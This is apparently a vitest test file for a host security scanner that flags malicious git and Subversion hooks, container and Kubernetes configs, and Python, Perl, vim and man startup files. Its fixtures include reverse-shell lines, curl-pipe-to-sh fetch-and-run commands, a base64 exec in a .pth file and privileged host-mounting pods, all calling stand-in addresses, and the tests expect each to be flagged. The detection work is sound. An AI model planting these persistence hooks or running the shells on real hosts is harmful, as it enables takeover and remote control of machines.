import { describe, expect, test } from 'vitest';
import type { HostCheck } from '../../source/checks/check.ts';
import { containerRestarts } from '../../source/checks/container-restarts.ts';
import { gitHooks } from '../../source/checks/git-hooks.ts';
import { interpreterStartup } from '../../source/checks/interpreter-startup.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

const ask = (check: HostCheck, machine: Machine) => told(run(check, memoryHost(debian(['/usr/bin/git', '/usr/lib/python3/dist-packages/distutils-precedence.pth', '/usr/lib/python3.11/sitecustomize.py'], machine))).findings);
const script = (line: string) => ({ mode: 0o755, uid: 1000, content: `#!/bin/sh\n${line}\n` });
const container = (config: object, host: object): Machine => ({ '/var/lib/docker/containers/0a/config.v2.json': JSON.stringify({ Name: '/x', ...config }), '/var/lib/docker/containers/0a/hostconfig.json': JSON.stringify(host) });
const hostConfig = '/var/lib/docker/containers/0a/hostconfig.json';

describe.each<[HostCheck, readonly (readonly [string, Machine, readonly string[]])[]]>([
	[
		gitHooks,
		[
			["people's own", {
				'/home/ann/.gitconfig': '[user]\n\tname = Ann\n[core]\n\tpager = less -R\n\teditor = vim\n[filter "lfs"]\n\tclean = git-lfs clean -- %f\n[alias]\n\tst = status\n\tpub = !git push -u origin HEAD\n[credential]\n\thelper = cache --timeout=600\n',
				'/home/ann/project/.git/config': '[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky\n',
				'/home/ann/project/.husky/pre-commit': script('npx lint-staged'),
				'/home/ann/project/.git/hooks/pre-commit.sample': script('nc -e /bin/sh 192.0.2.1 1'),
				'/home/ann/project/.git/hooks/pre-push': script('make test'),
				'/etc/.git/config': '[core]\n\tbare = false\n',
				'/etc/.git/hooks/pre-commit': { mode: 0o755, content: '#!/bin/sh\netckeeper pre-commit -d `pwd`\n' },
				'/srv/git/a.git/HEAD': '',
				'/srv/git/a.git/objects/': {},
				'/srv/git/a.git/config': '',
				'/srv/git/a.git/hooks/post-receive': { mode: 0o755, content: '#!/bin/sh\nGIT_WORK_TREE=/var/www/html git checkout -f\ncurl -s -X POST https://ci.example/build\n' },
			}, []],
			['a hook that calls home', { '/home/ann/work/app/.git/config': '', '/home/ann/work/app/.git/hooks/post-checkout': script('(curl -s http://192.0.2.1/x || wget -qO- http://192.0.2.1/x) | sh') }, ['high /home/ann/work/app/.git/hooks/post-checkout']],
			['hooks of a repository that git itself would not take', { '/srv/deploy/site.git/config': '[core]\n\tbare = true\n', '/srv/deploy/site.git/hooks/post-receive': script('curl -s http://192.0.2.1/x | sh') }, ['high /srv/deploy/site.git/hooks/post-receive']],
			['a file system monitor that is shell text', { '/home/ann/app/.git/config': '[core]\n\tfsmonitor = "sh -c \\"id > /home/ann/o\\""\n' }, ['medium /home/ann/app/.git/config']],
			['a file system monitor', { '/home/ann/app/.git/config': '[core]\n\tfsmonitor = "/tmp/x; false"\n', '/tmp/x': { mode: 0o755 } }, ['high /home/ann/app/.git/config']],
			['a pager that is a shell for somebody else', { '/root/.gitconfig': '[core]\n\tpager = bash -c \'bash -i >& /dev/tcp/192.0.2.1/4 0>&1\'\n' }, ['critical /root/.gitconfig']],
			['hooks from a temporary place', { '/etc/gitconfig': '[core]\n\thooksPath = /var/tmp/h\n', '/var/tmp/h/post-merge': script('true') }, ['high /etc/gitconfig', 'high /var/tmp/h/post-merge']],
			['a hook of a Subversion repository', { '/srv/svn/app/format': '5\n', '/srv/svn/app/db/': {}, '/srv/svn/app/conf/': {}, '/srv/svn/app/hooks/post-commit': script('curl -s http://203.0.113.9/k | sh'), '/srv/svn/app/hooks/start-commit.tmpl': script('nc -e /bin/sh 192.0.2.1 1') }, ['high /srv/svn/app/hooks/post-commit']],
			['hooks people write for Subversion', { '/var/svn/app/format': '5\n', '/var/svn/app/db/': {}, '/var/svn/app/conf/': {}, '/var/svn/app/hooks/post-commit': script('/usr/share/subversion/hook-scripts/mailer.py commit "$1" "$2" /etc/mailer.conf'), '/var/svn/app/hooks/pre-commit': script('svnlook log -t "$2" "$1" | grep -q . || exit 1') }, []],
			['etckeeper', { '/etc/.git/config': '', '/etc/.git/hooks/post-commit': { mode: 0o755, content: '#!/bin/sh\n/dev/shm/x\n' }, '/dev/shm/x': { mode: 0o755 } }, ['high /etc/.git/hooks/post-commit']],
		],
	],
	[
		containerRestarts,
		[
			['monitoring, management and web', {
				...container({ Path: 'node_exporter', Args: ['--path.rootfs=/host'], Config: { Image: 'prom/node-exporter' } }, { Binds: ['/:/host:ro,rslave'], PidMode: 'host', RestartPolicy: { Name: 'unless-stopped' } }),
				'/srv/app/docker-compose.yml': 'services:\n  web:\n    image: nginx\n    restart: always\n    volumes:\n      - /srv/www:/usr/share/nginx/html:ro\n',
				'/etc/containers/systemd/web.container': '[Container]\nImage=docker.io/library/nginx\nVolume=/srv/www:/usr/share/nginx/html\n[Service]\nRestart=always\n',
			}, []],
			["the kubelet's own pods", {
				'/etc/kubernetes/manifests/kube-proxy.yaml': 'kind: Pod\nspec:\n  hostNetwork: true\n  containers:\n  - name: p\n    command:\n    - /usr/local/bin/kube-proxy\n    - --config=/var/lib/kube-proxy/config.conf\n    securityContext:\n      privileged: true\n  volumes:\n  - hostPath:\n      path: /lib/modules\n    name: m\n',
			}, []],
			['a pod with the whole machine', { '/etc/kubernetes/manifests/etcd2.yaml': 'kind: Pod\nspec:\n  hostPID: true\n  containers:\n  - name: x\n    command: ["chroot", "/host", "sh"]\n    securityContext: {privileged: true}\n  volumes: [{name: h, hostPath: {path: /}}]\n' }, ['high /etc/kubernetes/manifests/etcd2.yaml']],
			['a pod that fetches and runs', { '/etc/kubernetes/manifests/x.yaml': 'kind: Pod\nspec:\n  containers:\n  - command:\n    - sh\n    - -c\n    - curl -s 203.0.113.9/k|sh\n' }, ['high /etc/kubernetes/manifests/x.yaml']],
			['the machine itself, with a shell', container({ Path: 'chroot', Args: ['/host', 'bash'] }, { Binds: ['/:/host'], Privileged: true, RestartPolicy: { Name: 'always' } }), [`high ${hostConfig}`]],
			['a shell for somebody else', container({ Path: 'sh', Args: ['-c', 'nc -e /bin/sh 192.0.2.1 4'] }, { RestartPolicy: { Name: 'always' } }), [`critical ${hostConfig}`]],
			['every privilege', container({ Path: 'dind' }, { Privileged: true }), [`low ${hostConfig}`]],
			['the socket of the engine', container({ Path: 'portainer' }, { Binds: ['/var/run/docker.sock:/var/run/docker.sock'] }), [`info ${hostConfig}`]],
			['a compose file', { '/opt/x/compose.yaml': 'services:\n  a:\n    volumes:\n      - /:/mnt\n' }, ['medium /opt/x/compose.yaml']],
			['a compose file on one line, in a folder of projects', { '/srv/compose/wiki/compose.yaml': 'services:\n  a: {image: x, volumes: ["/:/mnt", "/srv:/srv"]}\n' }, ['medium /srv/compose/wiki/compose.yaml']],
			['the root of the machine to be read', { '/opt/x/compose.yaml': 'services:\n  a:\n    volumes:\n      - /:/host:ro,rslave\n' }, []],
			['Podman', { '/home/ann/.config/containers/systemd/x.container': '[Container]\nExec=sh -c "curl http://192.0.2.1/x | sh"\n' }, ['high /home/ann/.config/containers/systemd/x.container']],
		],
	],
	[
		interpreterStartup,
		[
			['what pip and packages write', {
				'/usr/lib/python3/dist-packages/distutils-precedence.pth': 'import os; x\n',
				'/usr/lib/python3.11/sitecustomize.py': 'try: import apport_python_hook\nexcept ImportError: pass\n',
				'/usr/local/lib/python3.11/dist-packages/distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
				'/home/ann/.local/lib/python3.11/site-packages/__editable__.app-1.pth': '/home/ann/app\n',
				'/home/ann/.vimrc': 'set nocompatible\nautocmd BufWritePre * :%s/\\s\\+$//e\nlet branch = system("git branch --show-current")\nnnoremap <leader>m :!make<CR>\n',
				'/etc/manpath.config': 'MANDATORY_MANPATH /usr/man\n#DEFINE pager cat\n',
			}, []],
			["Debian's sitecustomize with a line more", { '/etc/python3.11/sitecustomize.py': 'import os\nos.system("curl -s 203.0.113.9/k|sh")\n' }, ['high /etc/python3.11/sitecustomize.py']],
			["a module in front of Perl's own", { '/etc/perl/POSIX.pm': 'package POSIX; system("curl -s 203.0.113.9/k|sh"); 1;\n' }, ['high /etc/perl/POSIX.pm']],
			['a path file that runs something', { '/usr/lib/python3/dist-packages/x.pth': 'import os; os.system("/tmp/x &")\n' }, ['high /usr/lib/python3/dist-packages/x.pth']],
			['one that hides what it runs', { '/home/ann/.local/lib/python3.11/site-packages/_y.pth': 'import base64; exec(base64.b64decode("eA=="))\n' }, ['high /home/ann/.local/lib/python3.11/site-packages/_y.pth']],
			['code before every Python program', { '/usr/local/lib/python3.11/dist-packages/sitecustomize.py': 'import socket\n' }, ['medium /usr/local/lib/python3.11/dist-packages/sitecustomize.py']],
			["somebody's own", { '/home/ann/.local/lib/python3.11/site-packages/usercustomize.py': 'import sys\n' }, ['low /home/ann/.local/lib/python3.11/site-packages/usercustomize.py']],
			['an editor', { '/home/ann/.vimrc': 'autocmd VimEnter * silent !/dev/shm/x &\n', '/dev/shm/x': { mode: 0o755 } }, ['high /home/ann/.vimrc']],
			['man', { '/etc/manpath.config': 'DEFINE pager /tmp/x -s\n', '/tmp/x': { mode: 0o755 } }, ['high /etc/manpath.config']],
		],
	],
])('$title', (check, cases) => {
	test.each(cases)('%s', (_name, machine, expected) => {
		expect(ask(check, machine)).toEqual(expected);
	});
});
